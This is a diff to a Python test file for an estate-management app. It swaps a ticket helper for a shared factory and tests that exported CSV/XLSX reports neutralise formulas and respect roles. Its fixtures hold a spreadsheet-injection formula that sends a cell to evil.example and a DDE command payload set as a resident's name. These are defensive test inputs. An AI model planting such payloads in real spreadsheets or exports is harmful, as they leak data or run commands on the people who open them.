@@ -20,9 +20,9 @@ from estate.core.errors import NotFound
 from estate.messaging.models import OutboundMessage
 from estate.reporting.reports import to_csv, to_xlsx
 from estate.residents.models import Resident
-from estate.tickets.create import create_ticket
 from estate.tickets.models import Ticket
 from tests.support.console import console_world, sign_in
+from tests.support.factories import make_ticket
 
 EN = {"Accept-Language": "en-US,en;q=0.8"}
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -51,20 +51,6 @@ def client_for(app, base_url: str = "http://t") -> httpx.AsyncClient:
     return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=base_url)
 
 
-async def new_ticket(ctx, world, text: str) -> Ticket:
-    async with ctx.sessions() as s, s.begin():
-        return await create_ticket(
-            s,
-            clock=ctx.clock,
-            estate_id=world.estate.id,
-            kind="repair",
-            category_code="plumbing",
-            description=text,
-            resident_id=world.resident.id,
-            channel_account_id=world.account.id,
-        )
-
-
 async def queued(ctx) -> int:
     async with ctx.sessions() as s:
         return (await s.execute(select(func.count()).select_from(OutboundMessage))).scalar_one()
@@ -90,7 +76,7 @@ def test_export_cells_that_would_start_a_formula_are_neutralised_and_numbers_sta
 
 
 async def test_a_residents_formula_reaches_no_export_as_a_formula(ctx, world):
-    await new_ticket(ctx, world, FORMULA)
+    await make_ticket(ctx, world, FORMULA)
     async with ctx.sessions() as s, s.begin():
         await s.execute(update(Resident).values(name="@cmd|' /C calc'!A0"))
     ctx.clock.set(ctx.clock.now().replace(day=28))
@@ -116,8 +102,8 @@ async def test_a_residents_formula_reaches_no_export_as_a_formula(ctx, world):
 
 
 async def test_the_ticket_export_follows_the_ticket_pages_roles(ctx, world):
-    mine = await new_ticket(ctx, world, "Tap drips in the kitchen")
-    await new_ticket(ctx, world, "Someone else's leak")
+    mine = await make_ticket(ctx, world, "Tap drips in the kitchen")
+    await make_ticket(ctx, world, "Someone else's leak")
     async with ctx.sessions() as s, s.begin():
         await s.execute(
             update(Ticket).where(Ticket.id == mine.id).values(technician_id=world.staff["technician"].id)
